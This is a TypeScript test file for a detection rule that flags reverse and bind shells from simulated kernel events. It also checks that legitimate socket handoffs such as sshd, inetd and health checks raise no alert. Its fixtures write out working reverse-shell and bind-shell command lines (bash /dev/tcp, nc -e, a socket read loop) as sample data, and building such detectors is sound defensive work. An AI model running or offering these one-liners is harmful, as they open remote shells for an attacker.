/**
 * TRC-101's precise profile (the default): verdicts over hand-made event sequences shaped
 * like what the kernel reports for real programs (the kernel tier runs the programs).
 */
import { describe, expect, it } from "vitest";
import { Engine, createTrc101Rule, type Finding, type SensorEvent, type StdioFd, type TaskContext } from "sockeye";
import { readsCommandsFromStdin } from "../../../src/rules/stdio/interpreters.js";
import { ATTACKER as REMOTE, LOCAL_END as LOCAL, at, connect, dup, exec, exit, fork, inet, pipe, proc, silentLogger, start, tty } from "../engine/fixtures.js";

const SOCK = 9001;

type Origin = "connected" | "accepted";
/** This file's terminal: pty 0, the controlling one. */
const onTty = tty(0);
const devnull: StdioFd = { kind: "chardev", ino: 5, dev: (1 << 20) | 3 };

const dupOnto = (p: Partial<TaskContext>, newfd: number, socketOnFds: number[], ms: number, origin: Origin = "connected") =>
  dup({ task: p, newfd, oldfd: 3, socketIno: SOCK, socketOnFds, origin, local: { ...LOCAL }, remote: { ...REMOTE }, timeMs: at(ms) });
const connectOnto = (p: Partial<TaskContext>, fd: number, ms: number) =>
  connect({ task: p, fd, socketIno: SOCK, socketOnFds: [fd], remote: { ...REMOTE }, timeMs: at(ms) });

function run(events: SensorEvent[]) {
  const engine = new Engine({ rules: [createTrc101Rule()], hostName: "h", now: () => at(0), logger: silentLogger });
  const findings: Finding[] = events.flatMap((e) => engine.handle(e));
  const stats = engine.stats();
  return { findings, suppressed: stats.suppressedByRule["TRC-101"] ?? {}, folded: stats.foldedByRule["TRC-101"] ?? 0 };
}

const shell = proc(100, 1, "bash");
const child = proc(101, 100, "bash");

interface Case {
  name: string;
  events: SensorEvent[];
  /** Expected: one finding with this reason, or none and this suppression count. */
  verdict?: string;
  suppressed?: Record<string, number>;
}

const alerts: Case[] = [
  {
    name: "bash -c 'bash -i >& /dev/tcp/H/P 0>&1': the shell's own dups, then bash -i on the socket",
    events: [
      ...start(shell, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.66/4444 0>&1"], [onTty, onTty, onTty], 0),
      dupOnto(shell, 1, [1], 1), dupOnto(shell, 2, [1, 2], 2), dupOnto(shell, 0, [0, 1, 2], 3),
      exec({ task: shell, filename: "/usr/bin/bash", args: ["bash", "-i"], stdio: [inet(SOCK), inet(SOCK), inet(SOCK)], timeMs: at(4) }),
      ...start(child, "/usr/bin/id", ["id"], [inet(SOCK), inet(SOCK), inet(SOCK)], 5),
    ],
    verdict: "interpreter_stdio_on_socket",
  },
  {
    name: "nc -e /bin/sh: nc (no interpreter) dups, then sh starts on the socket",
    events: [
      ...start(shell, "/usr/bin/nc.traditional", ["nc", "10.0.0.66", "4444", "-e", "/bin/sh"], [onTty, onTty, onTty], 0),
      dupOnto({ ...shell, comm: "nc" }, 0, [0], 1), dupOnto({ ...shell, comm: "nc" }, 1, [0, 1], 2), dupOnto({ ...shell, comm: "nc" }, 2, [0, 1, 2], 3),
      exec({ task: shell, filename: "/bin/sh", args: ["/bin/sh"], stdio: [inet(SOCK), inet(SOCK), inet(SOCK)], timeMs: at(4) }),
    ],
    verdict: "shell_on_socket",
  },
  {
    name: "python os.dup2 x3 then pty.spawn: an interpreter with the socket on stdin and stdout",
    events: [
      ...start(proc(100, 1, "python3"), "/usr/bin/python3", ["python3", "-c", "import socket,os,pty;..."], [onTty, onTty, onTty], 0),
      dupOnto(proc(100, 1, "python3"), 0, [0], 1), dupOnto(proc(100, 1, "python3"), 1, [0, 1], 2),
    ],
    verdict: "interpreter_stdio_on_socket",
  },
  {
    name: "a shell started with the socket on stdin however it got there (SCM_RIGHTS, pidfd_getfd): no dup seen at all",
    events: start(child, "/bin/sh", ["sh", "-i"], [inet(SOCK), onTty, onTty], 0),
    verdict: "shell_on_socket",
  },
  {
    name: "busybox sh: /proc/self/exe with argv[0] sh",
    events: start(child, "/proc/self/exe", ["sh"], [inet(SOCK), inet(SOCK), inet(SOCK)], 0),
    verdict: "shell_on_socket",
  },
  {
    name: "bind shell: an accepted socket given to a shell reading stdin (nc -lvp P -e /bin/sh)",
    events: [
      ...start(shell, "/usr/bin/nc.traditional", ["nc", "-lvp", "4444", "-e", "/bin/sh"], [onTty, onTty, onTty], 0),
      dupOnto({ ...shell, comm: "nc" }, 0, [0], 1, "accepted"), dupOnto({ ...shell, comm: "nc" }, 1, [0, 1], 2, "accepted"),
      exec({ task: shell, filename: "/bin/sh", args: ["/bin/sh"], stdio: [inet(SOCK, "accepted"), inet(SOCK, "accepted"), onTty], timeMs: at(3) }),
    ],
    verdict: "bind_shell",
  },
  {
    name: "read loop: `while read c <&3; do $c >&3; done` runs each command with the socket as stdout",
    events: [
      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.66/4444; while read c <&3; do $c >&3; done"], [onTty, onTty, onTty], 0),
      dupOnto(shell, 0, [0], 1),
      fork({ task: child, timeMs: at(2) }),
      dupOnto(child, 1, [1], 3),
      exec({ task: child, filename: "/usr/bin/id", args: ["id"], stdio: [onTty, inet(SOCK), onTty], timeMs: at(4) }),
    ],
    verdict: "runs_commands_read_from_socket",
  },
];

const quiet: Case[] = [
  {
    name: "sshd: the listener's child puts the accepted socket on 0 and 1 and re-executes sshd",
    events: [
      ...start(proc(200, 1, "sshd"), "/usr/sbin/sshd", ["sshd", "-D"], [devnull, devnull, devnull], 0),
      fork({ task: proc(201, 200, "sshd"), timeMs: at(1) }),
      dupOnto(proc(201, 200, "sshd"), 0, [0], 2, "accepted"), dupOnto(proc(201, 200, "sshd"), 1, [0, 1], 3, "accepted"),
      exec({ task: proc(201, 200, "sshd"), filename: "/usr/sbin/sshd", args: ["sshd", "-D", "-R"], stdio: [inet(SOCK, "accepted"), inet(SOCK, "accepted"), devnull], timeMs: at(4) }),
    ],
    suppressed: { service_handoff: 1 },
  },
  {
    name: "a python server hands an accepted socket to a child's stdio, which runs cat",
    events: [
      ...start(proc(300, 1, "python3"), "/usr/bin/python3", ["python3", "server.py"], [onTty, onTty, onTty], 0),
      fork({ task: proc(301, 300, "python3"), timeMs: at(1) }),
      dupOnto(proc(301, 300, "python3"), 0, [0], 2, "accepted"), dupOnto(proc(301, 300, "python3"), 1, [0, 1], 3, "accepted"),
      exec({ task: proc(301, 300, "python3"), filename: "/bin/cat", args: ["cat"], stdio: [inet(SOCK, "accepted"), inet(SOCK, "accepted"), onTty], timeMs: at(4) }),
    ],
    suppressed: { service_handoff: 1 },
  },
  {
    name: "inetd running a service script: an accepted socket under sh SCRIPT, which reads no commands from stdin",
    events: start(proc(400, 1, "inetd"), "/bin/sh", ["/bin/sh", "/usr/local/lib/echo-service.sh"], [inet(SOCK, "accepted"), inet(SOCK, "accepted"), devnull], 0),
    suppressed: { service_handoff: 1 },
  },
  {
    name: "health check: exec 3<>/dev/tcp/H/P; printf ... >&3; cat <&3",
    events: [
      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.66/80; printf 'GET /' >&3; cat <&3"], [onTty, onTty, onTty], 0),
      dupOnto(shell, 1, [1], 1),
      fork({ task: child, timeMs: at(2) }),
      dupOnto(child, 0, [0], 3),
      exec({ task: child, filename: "/usr/bin/cat", args: ["cat"], stdio: [inet(SOCK), onTty, onTty], timeMs: at(4) }),
      exit({ task: child, timeMs: at(5) }),
      exit({ task: shell, timeMs: at(6) }),
    ],
    suppressed: { not_a_shell: 1, no_program: 1 },
  },
  {
    name: "health check with builtins: printf >&3 then read <&3 in the same shell",
    events: [
      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.66/80; printf 'GET /' >&3; read -r line <&3"], [onTty, onTty, onTty], 0),
      dupOnto(shell, 1, [1], 1), dupOnto(shell, 0, [0], 2),
      exit({ task: shell, timeMs: at(3) }),
    ],
    suppressed: { no_program: 1 },
  },
  {
    name: "health check: bash -c '</dev/tcp/H/P' (a connect onto fd 0 by the shell, nothing run)",
    events: [
      ...start(shell, "/usr/bin/bash", ["bash", "-c", "</dev/tcp/10.0.0.66/80"], [onTty, onTty, onTty], 0),
      dupOnto(shell, 0, [0], 1),
      exit({ task: shell, timeMs: at(2) }),
    ],
    suppressed: { no_program: 1 },
  },
  {
    name: "read <&3 then a pipeline that does not write to the socket",
    events: [
      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/H/P; read l <&3; echo $l | grep -q OK"], [onTty, onTty, onTty], 0),
      dupOnto(shell, 0, [0], 1),
      ...start(child, "/usr/bin/grep", ["grep", "-q", "OK"], [pipe(77), onTty, onTty], 2),
      exit({ task: child, timeMs: at(3) }),
      exit({ task: shell, timeMs: at(4) }),
    ],
    suppressed: { no_program: 1 },
  },
  {
    name: "a socket dup'ed onto stdin, then put away before the program starts",
    events: [
      ...start(shell, "/usr/bin/python3", ["python3", "client.py"], [onTty, onTty, onTty], 0),
      connectOnto({ ...shell, comm: "python3" }, 0, 1),
      exec({ task: shell, filename: "/usr/bin/env", args: ["env"], stdio: [onTty, onTty, onTty], timeMs: at(2) }),
    ],
    suppressed: { left_stdio_before_exec: 1 },
  },
];

describe("TRC-101 precise profile: verdicts", () => {
  for (const c of alerts) {
    it(`alerts once: ${c.name}`, () => {
      const { findings } = run(c.events);
      expect(findings).toHaveLength(1);
      expect(findings[0]!.sockeye).toMatchObject({ profile: "precise", verdict: { reason: c.verdict, socket_inode: SOCK } });
      // The seed's Finding fields stay on every finding.
      expect(findings[0]).toMatchObject({ finding: { "IP address": REMOTE.address, Port: String(REMOTE.port) } });
    });
  }
  for (const c of quiet) {
    it(`stays quiet, counting why: ${c.name}`, () => {
      const { findings, suppressed } = run(c.events);
      expect(findings).toEqual([]);
      expect(suppressed).toEqual(c.suppressed);
    });
  }
});

describe("TRC-101 precise profile: one socket, one finding", () => {
  it("folds the dups and every later process on the same socket into the first finding", () => {
    const { findings, folded } = run(alerts[0]!.events);
    expect(findings).toHaveLength(1);
    // bash's three dups: the one on fd 0 alerts; bash -i and id fold.
    expect(findings[0]).toMatchObject({ finding: { "File descriptor": 0 }, process: { pid: 100 }, network: { direction: "egress" } });
    expect(folded).toBe(2);
  });

  it("gives two findings for two shells on two sockets to the same listener", () => {
    const { findings } = run([
      ...start(proc(500, 1, "sh"), "/bin/sh", ["sh"], [inet(1), inet(1), inet(1)], 0),
      ...start(proc(501, 1, "sh"), "/bin/sh", ["sh"], [inet(2), inet(2), inet(2)], 1),
    ]);
    expect(findings.map((f) => (f.sockeye as unknown as { verdict: { socket_inode: number } }).verdict.socket_inode)).toEqual([1, 2]);
  });

  it("a bind shell is ingress, with the listener as destination and its own severity", () => {
    const { findings } = run(alerts.find((c) => c.verdict === "bind_shell")!.events);
    expect(findings[0]).toMatchObject({
      network: { direction: "ingress" }, source: { ip: REMOTE.address }, destination: { ip: LOCAL.address, port: LOCAL.port },
      event: { severity: 99 }, process: { executable: "/bin/sh" },
    });
  });
});

describe("TRC-101 precise profile: bounds", () => {
  it("a read loop whose first command comes two hours after the dup is still recognised while its shell lives", () => {
    const hours = (h: number) => h * 60 * 60_000;
    const loop = (exitFirst: boolean) => run([
      ...start(shell, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.66/4444; sleep 7200; while read c <&3; do $c >&3; done"], [onTty, onTty, onTty], 0),
      dupOnto(shell, 0, [0], 1),
      // Another process's exec an hour and a bit in: the judge's sweep runs with the reader old.
      ...start(proc(300, 1, "cron"), "/usr/sbin/cron", ["cron"], [devnull, devnull, devnull], hours(1) + 10),
      ...(exitFirst ? [exit({ task: shell, timeMs: at(hours(1) + 20) })] : []),
      ...start(proc(301, 1, "cron"), "/usr/sbin/cron", ["cron"], [devnull, devnull, devnull], hours(1.5)),
      fork({ task: child, timeMs: at(hours(2)) }),
      dupOnto(child, 1, [1], hours(2) + 1),
      exec({ task: child, filename: "/usr/bin/id", args: ["id"], stdio: [onTty, inet(SOCK), onTty], timeMs: at(hours(2) + 2) }),
    ]);
    const waited = loop(false);
    expect(waited.findings.map((f) => (f.sockeye["verdict"] as { reason: string }).reason)).toEqual(["runs_commands_read_from_socket"]);
    // Its shell gone (exit seen): the reader is not kept, and a program on the socket's stdout alone is no shell.
    expect(loop(true).findings).toEqual([]);
  });

  it("reports the oldest held trigger when too many processes hold one, instead of dropping it", () => {
    const engine = new Engine({ rules: [createTrc101Rule({ precise: { maxHeldProcesses: 2 } })], hostName: "h", logger: silentLogger });
    const findings = [1, 2, 3].flatMap((n) =>
      engine.handle(dup({ task: proc(600 + n, 1, "cat"), newfd: 0, socketIno: 700 + n, socketOnFds: [0], timeMs: at(n) })));
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ process: { pid: 601 }, sockeye: { verdict: { reason: "held_past_bound" } } });
  });

  it("a long-lived shell opening a socket per health check holds at most a few, the older ones counted as superseded", () => {
    const events: SensorEvent[] = [...start(shell, "/usr/bin/bash", ["bash", "-c", "while :; do exec 3<>/dev/tcp/h/80; printf x >&3; done"], [onTty, onTty, onTty], 0)];
    for (let n = 0; n < 20; n++) events.push(dup({ task: shell, newfd: 1, socketIno: 800 + n, socketOnFds: [1], timeMs: at(1 + n) }));
    const { findings, suppressed } = run(events);
    expect(findings).toEqual([]);
    expect(suppressed).toEqual({ superseded: 12 });
  });

  it("a capture without socket identity is judged as Tracee judges it", () => {
    const { findings } = run([connect({ fd: 0, remote: { ...REMOTE } })]);
    expect(findings).toHaveLength(1);
    expect(findings[0]!.sockeye).toMatchObject({ verdict: { reason: "legacy_capture" } });
  });
});

describe("interpreters", () => {
  const reads: [string[], boolean][] = [
    [["bash"], true], [["bash", "-i"], true], [["-bash"], true], [["sh", "-s", "x"], true], [["bash", "-ic", "x"], true],
    [["bash", "-c", "id"], false], [["sh", "script.sh"], false], [["bash", "-e", "script.sh"], false], [["bash", "-o", "pipefail", "x.sh"], false],
    [["sh", "-"], true], [["bash", "--norc"], true],
  ];
  for (const [args, expected] of reads) {
    it(`shell ${JSON.stringify(args)} reads commands from stdin: ${expected}`, () => {
      expect(readsCommandsFromStdin("shell", args)).toBe(expected);
    });
  }
  it("python, perl, php, node: code options and scripts mean no commands from stdin", () => {
    expect(readsCommandsFromStdin("python", ["python3"])).toBe(true);
    expect(readsCommandsFromStdin("python", ["python3", "-c", "x"])).toBe(false);
    expect(readsCommandsFromStdin("python", ["python3", "-m", "http.server"])).toBe(false);
    expect(readsCommandsFromStdin("python", ["python3", "-u", "-i", "x.py"])).toBe(true);
    expect(readsCommandsFromStdin("perl", ["perl", "-e", "x"])).toBe(false);
    expect(readsCommandsFromStdin("php", ["php", "-r", "x"])).toBe(false);
    expect(readsCommandsFromStdin("node", ["node", "--eval=x"])).toBe(false);
    expect(readsCommandsFromStdin("node", ["node", "server.js"])).toBe(false);
  });
});

describe("per-fd findings (fold off) and fds past 9", () => {
  const reasons = (findings: Finding[]) => findings.map((f) => (f as unknown as { sockeye: { verdict: { reason: string } } }).sockeye.verdict.reason);

  it("every later finding on a reported socket carries the reason the socket was reported for", () => {
    const engine = new Engine({ rules: [createTrc101Rule()], fold: false, hostName: "h", now: () => at(0), logger: silentLogger });
    const findings = [
      ...start(shell, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.66/4444 0>&1"], [onTty, onTty, onTty], 0),
      dupOnto(shell, 1, [1], 1), dupOnto(shell, 2, [1, 2], 2), dupOnto(shell, 0, [0, 1, 2], 3),
      exec({ task: shell, filename: "/usr/bin/bash", args: ["bash", "-i"], stdio: [inet(SOCK), inet(SOCK), inet(SOCK)], timeMs: at(4) }),
      ...start(child, "/usr/bin/id", ["id"], [inet(SOCK), inet(SOCK), inet(SOCK)], 5),
    ].flatMap((e) => engine.handle(e));
    expect(findings).toHaveLength(3);
    expect(reasons(findings)).toEqual(["interpreter_stdio_on_socket", "interpreter_stdio_on_socket", "interpreter_stdio_on_socket"]);
  });

  it("with stdio up to fd 10, the fds of a finding are in numeric order and File descriptor is the lowest", () => {
    const engine = new Engine({ rules: [createTrc101Rule({ stdioFdMax: 10 })], hostName: "h", now: () => at(0), logger: silentLogger });
    // A capture from before socket inodes: the trigger is reported as Tracee would, with every fd holding the socket.
    const legacy = dup({ task: shell, newfd: 2, oldfd: 3, socketIno: 0, socketOnFds: [10, 2], origin: "connected", local: { ...LOCAL }, remote: { ...REMOTE }, timeMs: at(1) });
    const [finding] = engine.handle(legacy) as unknown as { finding: Record<string, unknown>; sockeye: { verdict: { stdio_fds: number[] } } }[];
    expect(finding!.sockeye.verdict.stdio_fds).toEqual([2, 10]);
    expect(finding!.finding["File descriptor"]).toBe(2);
  });
});
